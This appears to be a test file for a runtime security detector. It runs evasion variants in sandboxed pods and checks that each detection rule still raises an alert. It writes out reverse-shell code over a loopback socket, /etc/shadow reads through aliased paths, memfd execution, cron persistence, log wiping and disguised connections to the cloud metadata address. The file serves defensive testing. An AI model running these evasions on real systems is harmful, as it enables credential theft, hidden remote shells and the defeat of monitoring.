// Evasions (the brief's "attacker who knows the rules"): each rule's technique done the way that dodges the obvious
// signal, run like rules-attack.test.ts does its triggers: in a throwaway pod cgroup, through the embedded pipeline
// with the shipped rules and the default TracingPolicy, and the rule's alert must name that container. Every variant
// here is one Palisade catches; the ones it cannot catch on this kernel are listed, with why, in policies/README.md
// "Known gaps".
//
// The attacker's helper processes are a copy of python3 under a neutral name (`worker`): a dup2 of a socket onto
// stdio done by a program whose name is no shell or interpreter is exactly what an attacker who read PAL-002 does.
import assert from 'node:assert/strict';
import { copyFileSync, chmodSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { skipUnless } from '@palisade/common/testing';
import { AttackContext, type RunResult } from '@palisade/cli/dist/attack/index.js';
import { ioUringUnavailable, pyIoUringOpen } from '@palisade/cli/dist/attack/evasion-triggers.js';
import { inOwnNetns, withPrivateDirs } from '@palisade/cli/dist/attack/library-triggers.js';
import { canUseKernel, CGROUP2_ROOT } from '../support/pod-cgroup.js';
import { EmbeddedAlerts } from '../support/embedded-alerts.js';

const kernel = canUseKernel();
const skip = skipUnless(kernel.ok, kernel.why);
const PYTHON = '/usr/bin/python3';
const LOADER = '/lib64/ld-linux-x86-64.so.2';
const PY_LIBC = 'import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n';


interface Evasion {
  rule: string;
  what: string;
  unavailable?: () => string | undefined;
  run(ctx: AttackContext): Promise<RunResult[]>;
}

/** A copy of python3 named `worker` in the scratch directory (a program whose name no rule knows). */
function worker(ctx: AttackContext): string {
  const bin = join(ctx.scratch, 'worker');
  copyFileSync(PYTHON, bin);
  chmodSync(bin, 0o755);
  return bin;
}

/** Python: connect to the loopback listener, dup2 the socket onto 0, 1, 2, then exec argv. */
function pyStdioExec(port: number, argv: string[]): string {
  return `import os, socket; s = socket.create_connection(("127.0.0.1", ${port})); ` +
    `[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv(${JSON.stringify(argv[0])}, ${JSON.stringify(argv)})`;
}

async function viaWorker(ctx: AttackContext, argv: string[]): Promise<RunResult[]> {
  const port = await ctx.listen('id\nexit\n');
  return [await ctx.run([worker(ctx), '-c', pyStdioExec(port, argv)], { timeoutMs: 20_000 })];
}

const EVASIONS: Evasion[] = [
  // ---- PAL-001: the credential file under another name.
  {
    rule: 'PAL-001', what: '/etc/shadow through /proc/self/root and another process\'s /proc/<pid>/root',
    run: async (ctx) => [await ctx.sh('cat /proc/self/root/etc/shadow > /dev/null; sleep 20 & p=$!; ' +
      'cat /proc/$p/root/etc/shadow > /dev/null; kill $p; true')],
  },
  {
    rule: 'PAL-001', what: 'openat with a dirfd of /etc and the relative name "shadow"',
    run: async (ctx) => [await ctx.run([PYTHON, '-c',
      'import os; d = os.open("/etc", os.O_RDONLY | os.O_DIRECTORY); os.close(os.open("shadow", os.O_RDONLY, dir_fd=d))'])],
  },
  {
    rule: 'PAL-001', what: 'openat2 with RESOLVE_NO_MAGICLINKS|RESOLVE_NO_SYMLINKS (syscall 437)',
    run: async (ctx) => [await ctx.run([PYTHON, '-c',
      'import ctypes, struct, os\nlibc = ctypes.CDLL(None, use_errno=True)\n' +
      'how = struct.pack("QQQ", os.O_RDONLY, 0, 0x02 | 0x04)\n' +
      'fd = libc.syscall(437, -100, b"/etc/shadow", ctypes.c_char_p(how), len(how))\nassert fd >= 0, ctypes.get_errno()\nos.close(fd)'])],
  },
  {
    rule: 'PAL-001', what: 'a symlink chain (c -> b -> a/shadow, a -> /etc) and /etc/./shadow',
    run: async (ctx) => [await ctx.sh('ln -s /etc a && ln -s a/shadow b && ln -s b c && cat c > /dev/null; ' +
      'cat /etc/./shadow > /dev/null')],
  },
  {
    rule: 'PAL-049', what: '/etc/shadow opened through io_uring IORING_OP_OPENAT (no openat syscall: PAL-001 sees nothing)',
    unavailable: ioUringUnavailable,
    run: async (ctx) => [await ctx.run([PYTHON, '-c', pyIoUringOpen('/etc/shadow')])],
  },
  // /etc bound elsewhere: the read is of the new name (a kernel-resolved path), so the bind is what is caught.
  {
    rule: 'PAL-026', what: '/etc bind-mounted into the scratch dir with mount(2), then m/shadow read (own mount namespace)',
    run: async (ctx) => [await ctx.run(['unshare', '--mount', '--propagation', 'private', '/bin/sh', '-c',
      'mkdir -p m && mount --bind /etc m && cat m/shadow > /dev/null'])],
  },
  {
    rule: 'PAL-026', what: 'the same bind with the new mount API: open_tree(OPEN_TREE_CLONE) + move_mount, no mount(2)',
    run: async (ctx) => [await ctx.run(['unshare', '--mount', '--propagation', 'private', PYTHON, '-c',
      `${PY_LIBC}os.mkdir("m")\nt = libc.syscall(428, -100, b"/etc", 1 | os.O_CLOEXEC)\nassert t >= 0, ctypes.get_errno()\n` +
      'assert libc.syscall(429, t, b"", -100, b"m", 4) == 0, ctypes.get_errno()\nopen("m/shadow", "rb").close()\n'])],
  },
  {
    rule: 'PAL-026', what: 'proc mounted with fsopen + fsconfig + fsmount + move_mount, no mount(2) (own mount namespace)',
    run: async (ctx) => [await ctx.run(['unshare', '--mount', '--propagation', 'private', PYTHON, '-c',
      `${PY_LIBC}os.mkdir("p")\nf = libc.syscall(430, b"proc", 0)\nassert f >= 0, ctypes.get_errno()\n` +
      'assert libc.syscall(431, f, 6, None, None, 0) == 0, ctypes.get_errno()\nm = libc.syscall(432, f, 0, 0)\n' +
      'assert m >= 0, ctypes.get_errno()\nassert libc.syscall(429, m, b"", -100, b"p", 4) == 0, ctypes.get_errno()\n'])],
  },
  // ---- PAL-002: reverse shells whose dup2 is done by a program no list names.
  {
    rule: 'PAL-002', what: 'a renamed python dup2s the socket, then execs `busybox sh` (the exe is busybox)',
    run: async (ctx) => viaWorker(ctx, ['/usr/bin/busybox', 'sh']),
  },
  {
    rule: 'PAL-002', what: 'a renamed python dup2s the socket, then execs a copy of dash named `x`',
    run: async (ctx) => {
      copyFileSync('/bin/dash', join(ctx.scratch, 'x'));
      chmodSync(join(ctx.scratch, 'x'), 0o755);
      return viaWorker(ctx, [join(ctx.scratch, 'x'), '-i']);
    },
  },
  {
    rule: 'PAL-002', what: 'a renamed python dup2s the socket, then execs the loader: ld-linux-x86-64.so.2 /bin/sh',
    run: async (ctx) => viaWorker(ctx, [LOADER, '/bin/sh']),
  },
  {
    rule: 'PAL-002', what: 'a renamed python dup2s the socket, then execs script(1), whose shell gets a pty',
    run: async (ctx) => viaWorker(ctx, ['/usr/bin/script', '-qc', '/bin/sh', '/dev/null']),
  },
  {
    rule: 'PAL-002', what: 'the shell\'s stdin only is the socket (stdout to a file), the socket inherited from a renamed parent',
    run: async (ctx) => {
      const port = await ctx.listen('id\nexit\n');
      const py = `import os, socket, subprocess; s = socket.create_connection(("127.0.0.1", ${port})); ` +
        `subprocess.call(["/usr/bin/busybox", "sh"], stdin=s.fileno(), stdout=open("out", "w"))`;
      return [await ctx.run([worker(ctx), '-c', py], { timeoutMs: 20_000 })];
    },
  },
  {
    rule: 'PAL-002', what: 'python renamed by prctl (PR_SET_NAME "kworker/0:1") before it dup2s the socket onto its stdio',
    run: async (ctx) => {
      const port = await ctx.listen('id\nexit\n');
      const py = `${PY_LIBC}libc.prctl(15, b"kworker/0:1", 0, 0, 0)\nimport socket\ns = socket.create_connection(("127.0.0.1", ${port}))\n` +
        '[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n';
      return [await ctx.run([PYTHON, '-c', py], { timeoutMs: 20_000 })];
    },
  },
  {
    rule: 'PAL-002', what: 'a shell whose stdio is a UNIX socket that a renamed relay forwards to TCP',
    run: async (ctx) => {
      const port = await ctx.listen('id\nexit\n');
      const relay = `import os, socket, threading\nl = socket.socket(socket.AF_UNIX)\nl.bind("r.sock")\nl.listen(1)\n` +
        `t = socket.create_connection(("127.0.0.1", ${port}))\nif os.fork() == 0:\n  c = socket.socket(socket.AF_UNIX)\n  c.connect("r.sock")\n` +
        '  [os.dup2(c.fileno(), fd) for fd in (0, 1, 2)]\n  os.execv("/bin/sh", ["sh"])\n' +
        'u, _ = l.accept()\ndef pump(a, b):\n  while (d := a.recv(4096)): b.sendall(d)\n' +
        'threading.Thread(target=pump, args=(t, u), daemon=True).start()\npump(u, t)\n';
      return [await ctx.run([worker(ctx), '-c', relay], { timeoutMs: 10_000 })];
    },
  },
  // ---- PAL-032 / PAL-041: exec without a path.
  {
    rule: 'PAL-032', what: 'fexecve (execveat AT_EMPTY_PATH) of a memfd holding a copy of id',
    run: async (ctx) => [await ctx.run([PYTHON, '-c',
      'import os\nfd = os.memfd_create("x", 0)\nos.write(fd, open("/usr/bin/id", "rb").read())\nos.execve(fd, ["x"], {})\n'])],
  },
  {
    rule: 'PAL-041', what: 'fexecve (execveat AT_EMPTY_PATH) of an O_PATH fd of a binary in /tmp',
    run: async (ctx) => {
      copyFileSync('/usr/bin/id', join(ctx.scratch, 'y'));
      chmodSync(join(ctx.scratch, 'y'), 0o755);
      return [await ctx.run([PYTHON, '-c', `import os\nos.execve(os.open(${JSON.stringify(join(ctx.scratch, 'y'))}, os.O_PATH), ["y"], {})\n`])];
    },
  },
  // ---- PAL-006: the shell spawned under another name.
  {
    rule: 'PAL-006', what: 'a service process (dash named httpd) spawning `busybox sh -c`',
    run: async (ctx) => {
      const httpd = join(ctx.scratch, 'httpd');
      copyFileSync('/bin/dash', httpd);
      chmodSync(httpd, 0o755);
      return [await ctx.run([httpd, '-c', '/usr/bin/busybox sh -c id; true'])];
    },
  },
  {
    rule: 'PAL-006', what: 'a service process (dash named httpd) spawning the loader on /bin/sh',
    run: async (ctx) => {
      const httpd = join(ctx.scratch, 'httpd');
      copyFileSync('/bin/dash', httpd);
      chmodSync(httpd, 0o755);
      return [await ctx.run([httpd, '-c', `${LOADER} /bin/sh -c id; true`])];
    },
  },
  // ---- PAL-016: persistence put in place without opening the target for writing.
  {
    rule: 'PAL-016', what: 'a cron job hard-linked into /etc/cron.d (written elsewhere first; private tmpfs over /etc)',
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/etc'],
      'mkdir -p /etc/cron.d /etc/.cache && echo "* * * * * root /tmp/x" > /etc/.cache/j && ln /etc/.cache/j /etc/cron.d/j'))],
  },
  {
    rule: 'PAL-016', what: 'a cron job symlinked into /etc/cron.d (private tmpfs over /etc)',
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/etc'],
      `mkdir -p /etc/cron.d && echo "* * * * * root /tmp/x" > "$HOME/j" && ln -s "$HOME/j" /etc/cron.d/j`))],
  },
  {
    rule: 'PAL-016', what: 'install(1) and cp --remove-destination into /etc/cron.d (private tmpfs over /etc)',
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/etc'],
      `mkdir -p /etc/cron.d && echo "* * * * * root /tmp/x" > "$HOME/j" && install -m 644 "$HOME/j" /etc/cron.d/a && ` +
      `cp --remove-destination "$HOME/j" /etc/cron.d/a`))],
  },
  // ---- PAL-043: log wiping without `> log`.
  {
    rule: 'PAL-043', what: 'cp /dev/null over a log, and rename of a log onto another (private tmpfs over /var/log)',
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/var/log'],
      'echo a > /var/log/auth.log && echo b > /var/log/syslog && sleep 0.2 && cp /dev/null /var/log/auth.log'))],
  },
  {
    rule: 'PAL-043', what: 'a log opened without O_TRUNC and emptied with ftruncate(fd, 0) (private tmpfs over /var/log)',
    run: async (ctx) => [await ctx.run(withPrivateDirs(['/var/log'],
      `echo a > /var/log/auth.log && sleep 0.2 && ${PYTHON} -c 'import os; f = os.open("/var/log/auth.log", os.O_WRONLY); os.ftruncate(f, 0)'`))],
  },
  // ---- PAL-037 / PAL-004: the same destination spelled or sent otherwise.
  {
    rule: 'PAL-037', what: 'connect to the metadata address as the IPv4-mapped IPv6 ::ffff:169.254.169.254 (own netns)',
    run: async (ctx) => [await ctx.run(inOwnNetns('import socket\ns = socket.socket(socket.AF_INET6)\ns.settimeout(1)\n' +
      'try: s.connect(("::ffff:169.254.169.254", 80))\nexcept OSError: pass\n'))],
  },
  {
    rule: 'PAL-037', what: 'connect to the metadata address spelled as the decimal 2852039166 (own netns)',
    run: async (ctx) => [await ctx.run(inOwnNetns('import socket\ns = socket.socket()\ns.settimeout(1)\n' +
      'try: s.connect(("2852039166", 80))\nexcept OSError: pass\n'))],
  },
  {
    rule: 'PAL-037', what: 'UDP sendto the metadata address without connect (own netns)',
    run: async (ctx) => [await ctx.run(inOwnNetns('import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n' +
      'try: s.sendto(b"x", ("169.254.169.254", 80))\nexcept OSError: pass\n'))],
  },
  {
    rule: 'PAL-004', what: 'UDP sendto a denied port (4444) without connect (own netns)',
    run: async (ctx) => [await ctx.run(inOwnNetns('import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n' +
      'try: s.sendto(b"x", ("198.51.100.7", 4444))\nexcept OSError: pass\n'))],
  },
  // ---- PAL-041: the temp-dir binary run without exec'ing it.
  {
    rule: 'PAL-041', what: 'a binary in /tmp run through the loader (ld-linux-x86-64.so.2 /tmp/x: the exe is the loader)',
    run: async (ctx) => {
      copyFileSync('/usr/bin/id', join(ctx.scratch, 'x'));
      return [await ctx.run([LOADER, join(ctx.scratch, 'x')])];
    },
  },
];

const pipeline = new EmbeddedAlerts();

before(async () => {
  if (skip) return;
  await pipeline.start();
});

after(async () => {
  await pipeline.stop();
});

for (const ev of EVASIONS) {
  // A variant this node cannot show fails under CI=true like any other unmet need (skipUnless), never skips there.
  const unavailable = skip === false ? ev.unavailable?.() : undefined;
  const skipThis = skip !== false ? skip : skipUnless(unavailable === undefined, unavailable ?? '');
  test(`${ev.rule} still fires when evaded: ${ev.what}`, { skip: skipThis, timeout: 180_000 }, async () => {
    const ctx = new AttackContext(`${ev.rule}-evasion`, { podCgroupRoot: CGROUP2_ROOT });
    try {
      await ev.run(ctx);
      const id = ctx.pod!.containerId;
      const alert = await pipeline.waitForAlert(ev.rule, id, 60_000);
      assert.ok(alert.message !== undefined && alert.message.length > 0);
    } finally {
      ctx.close();
    }
  });
}
